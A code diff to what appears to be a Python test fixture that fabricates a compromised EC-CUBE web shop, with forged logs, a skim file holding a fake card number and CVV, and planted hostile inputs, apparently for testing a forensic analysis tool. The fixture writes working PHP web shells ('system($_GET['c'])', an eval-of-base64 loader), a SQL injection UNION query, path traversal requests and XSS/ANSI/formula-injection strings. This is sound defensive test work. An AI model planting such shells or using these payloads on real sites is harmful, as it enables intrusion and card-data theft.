@@ -54,6 +54,9 @@ def _bomb(size: int) -> bytes:
 
 
 PAN = _luhn_complete("498765432101234")  # a full, Luhn-valid card number planted in names and URLs
+#: The same number as attackers and payment modules write it: grouped 8+8, with dots, full-width.
+PAN_FORMS = (PAN, f"{PAN[:8]} {PAN[8:]}", ".".join(PAN[i:i + 4] for i in range(0, 16, 4)),
+             PAN.translate(str.maketrans("0123456789", "０１２３４５６７８９")))
 
 
 def build_hostile_case(root: Path, *, bomb_bytes: int = 512 * 1024 * 1024) -> HostileCase:
@@ -79,6 +82,7 @@ def build_hostile_case(root: Path, *, bomb_bytes: int = 512 * 1024 * 1024) -> Ho
         f'{ATTACKER} - - {t.format(m=6)} "GET /{JS_URL} HTTP/1.1" 404 12 "{SCRIPT}" "{ANSI}"',
         f'{ATTACKER} - - {t.format(m=7)} "GET /products/detail.php?product_id=1&card={PAN} HTTP/1.1" 200 9 "-" "x"',
         f'{ATTACKER} - - {t.format(m=8)} "GET /../../etc/passwd%0a%1b[2J HTTP/1.1" 400 9 "-" "x"',
+        f'{ATTACKER} - - {t.format(m=9)} "GET /user_data/x{PAN}.php HTTP/1.1" 200 9 "-" "ua {PAN_FORMS[2]} {PAN_FORMS[3]}"',
         f'{STAFF} - - {t.format(m=5)} "GET /index.php HTTP/1.1" 200 100 "-" "Mozilla/5.0"',
     ]
     body = "\n".join(access).encode() + b"\n"
@@ -92,11 +96,15 @@ def build_hostile_case(root: Path, *, bomb_bytes: int = 512 * 1024 * 1024) -> Ho
         f"2017/04/01 10:10:00 [/admin/index.php] {ANSI} password incorrect. from {ATTACKER}",
         f"2017/04/01 10:11:00 [/admin/index.php] login: user=admin(2) auth=0 lastlogin=2017-03-30 10:00:00 sid=abc{SCRIPT} from {ATTACKER}",
         f"2017/04/01 10:12:00 [/admin/contents/file_manager.php] ../../{IMG_XSS}.php -> /var/www/html/user_data/../../{ANSI}.php from {ATTACKER}",
+        f"2017/04/01 10:13:00 [/admin/contents/file_manager.php] x{PAN}.php -> /var/www/html/user_data/x{PAN}.php from {ATTACKER}",
+        f"2017/04/01 10:14:00 [/admin/index.php] card_{PAN} password incorrect. from {ATTACKER}",
+        f"mdl_pay debug card_no={PAN_FORMS[1]} cvv=123",  # a payment module's debug line: rejected, quoted
     ]
     (logs / "eccube" / "admin.log").write_text("\n".join(admin) + "\n")
     (logs / "mysql" / "general.log").write_text(
         "170401 10:11:00\t    5 Connect\teccube@localhost on eccube_db\n"
         f"\t\t    5 Query\tSELECT * FROM dtb_customer WHERE name01 = '{SCRIPT}'\n"
+        f"\t\t    5 Query\tSELECT * FROM dtb_order WHERE order_name01 = '' UNION SELECT '{PAN}' -- '\n"
         "\t\t    5 Quit\t\n"
     )
 
@@ -105,6 +113,8 @@ def build_hostile_case(root: Path, *, bomb_bytes: int = 512 * 1024 * 1024) -> Ho
     (server / "ok.gif").write_bytes(b"GIF89a" + b"\x00" * 20)
     (server / f"{IMG_XSS}.php").write_text("<?php eval(base64_decode($_POST['x'])); ?>")
     (server / "new\nline.php").write_text("<?php echo 1; ?>")
+    (server / f"x{PAN}.php").write_text("<?php system($_GET['c']); ?>")
+    (server / f"{PAN}.gif").write_text(f"{PAN_FORMS[1]}|TARO YAMADA|04/21|123\n")  # not an image: a skim candidate
     os.symlink(outside, server / "escape.txt")
     os.symlink(outside, server / "escape.gif")  # a "skim file" candidate by name
     os.symlink(outside_dir, server / "linkdir")
@@ -122,6 +132,7 @@ def build_hostile_case(root: Path, *, bomb_bytes: int = 512 * 1024 * 1024) -> Ho
     (db / "dtb_order.csv").write_text(
         "order_id,customer_id,order_name01,order_name02,order_email,payment_id,payment_method,status,create_date,update_date,del_flg\n"
         f"1,2,\"{FORMULA}\",x,victim@example.com,5,クレジットカード決済,7,2017-04-02 10:00:00,2017-04-02 10:00:00,0\n"
+        f"2,3,{PAN_FORMS[1]},x,other@example.com,5,クレジットカード決済,7,2017-04-03 10:00:00,2017-04-03 10:00:00,0\n"
     )
     (db / "dtb_payment.csv").write_text("payment_id,payment_method\n5,クレジットカード決済\n")
 
@@ -129,6 +140,7 @@ def build_hostile_case(root: Path, *, bomb_bytes: int = 512 * 1024 * 1024) -> Ho
     (root / "fs" / "bodyfile.txt").write_text(
         f"0|/var/www/eccube/html/user_data/{IMG_XSS}.php|100|r/rrw-r--r--|48|48|40|1491008000|1491008000|1491008000|1491008000\n"
         f"0|/var/www/eccube/html/user_data/card_{PAN}.txt|101|r/rrw-r--r--|48|48|40|1491008000|1491008000|1491008000|0\n"
+        f"0|/var/www/eccube/html/user_data/x{PAN}.php|104|r/rrw-r--r--|48|48|40|1491008040|1491008040|1491008040|1491008040\n"
         f"0|/var/www/eccube/html/../../../{ANSI}{SCRIPT}|102|r/rrw-r--r--|48|48|40|1491008100|1491008100|1491008100|0\n"
         f"0|/var/www/eccube/html/user_data/{FORMULA}.php|103|r/rrw-r--r--|48|48|40|1491008200|1491008200|1491008200|0\n"
         "this is not a bodyfile line\n"
